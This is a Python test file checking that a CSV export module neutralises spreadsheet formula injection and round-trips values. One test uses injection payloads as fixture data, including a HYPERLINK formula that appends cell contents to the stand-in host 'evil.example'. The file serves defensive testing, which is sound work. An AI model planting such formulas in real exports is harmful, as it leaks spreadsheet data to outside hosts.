"""Text in a CSV file is never a formula, and comes back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from model_store.feedback.decisions import Decided, from_csv, to_csv
from model_store.text_values import FORMULA, from_cell, to_cell

BEGINNINGS = "=+-@\t\r\n＝＋－＠"
PAGE = Path(__file__).parents[2] / "service" / "http" / "page" / "spreadsheet.js"


@given(st.text(alphabet=f"'{BEGINNINGS}a1<", max_size=6))
def test_cell_is_no_formula_and_comes_back(text: str) -> None:
    cell = to_cell(text)
    assert cell[:1] not in {*BEGINNINGS}
    assert from_cell(cell) == text


@pytest.mark.parametrize("text", ["", "a=b", "<", ">", "?", "A", ",", ".", "*", "'", "'a", "1-2"])
def test_text_that_is_no_formula_stays_as_it_is(text: str) -> None:
    assert to_cell(text) == from_cell(text) == text


def test_page_has_the_same_rule() -> None:
    assert f"/{FORMULA.pattern}/;" in PAGE.read_text("utf-8")


def test_decisions_hold_no_formula_and_come_back() -> None:
    said = Decided(
        gallery="=g",
        bundle="b",
        query_id="q",
        decision="that_item",
        item_id="-1",
        label="+SUM(1)",
        reviewer="@SUM(1+1)",
        comment='\'=HYPERLINK("http://evil.example"&A1)',
        pairs=(),
        decided_at=1.5,
    )
    text = to_csv([said])
    assert not [c for row in csv.reader(io.StringIO(text)) for c in row if c[:1] in {*BEGINNINGS}]
    assert from_csv(text) == [said]
